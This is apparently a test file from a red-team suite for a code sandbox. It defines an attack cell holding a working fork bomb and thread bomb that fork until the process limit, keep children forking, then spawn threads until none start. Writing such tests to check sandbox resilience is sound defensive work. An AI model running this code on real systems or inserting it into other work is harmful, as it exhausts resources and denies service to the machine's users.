"""A fork bomb and a thread bomb whose processes stay alive through the hidden calls."""

from __future__ import annotations

from tests.redteam.attacks import Attack, Cell

BOMB = """
import os
import threading
import time

def _linger():
    # Children hold their process slot (sleeping, not spinning) until the sandbox is torn down.
    while True:
        try:
            os.fork()
        except OSError:
            pass
        time.sleep(0.05)

children = 0
while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            _linger()
        finally:
            os._exit(0)
    children += 1
    if children > 100000:
        break

threads = 0
try:
    while True:
        threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
        threads += 1
except BaseException:
    pass
print(children, "children and", threads, "threads")
"""

ATTACK = Attack(
    name="fork_bomb",
    summary="forks until the process limit (each child keeps forking and lingers through the hidden "
    "calls), then starts threads until none can start",
    cells=(Cell(BOMB),),
)
